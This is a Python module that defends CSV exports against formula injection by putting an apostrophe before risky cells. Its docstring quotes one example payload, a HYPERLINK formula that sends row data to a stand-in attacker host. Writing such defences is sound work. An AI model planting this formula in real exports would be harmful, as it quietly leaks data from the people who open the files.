"""Cells of the CSV files Attest writes, made safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some strip a leading tab or carriage return first): a username typed at the
sign-in form, ``=HYPERLINK("https://evil.example/?"&A2, "open")``, would become a link
that carries the row away when an auditor opens the export. Every CSV the product
writes goes through ``writer`` (or ``row``), which writes such a text cell with a
leading apostrophe, the convention spreadsheets read as "this is text" (OWASP's advice
for CSV injection). Numbers are left alone; so is every cell that starts otherwise, so a
file without such cells is unchanged. The JSON export keeps the exact text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would run, prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows pass through ``row``."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(map(row, rows))


def writer(stream, **kwargs) -> SafeWriter:
    """Use in place of ``csv.writer`` for every CSV a user may open."""
    return SafeWriter(stream, **kwargs)
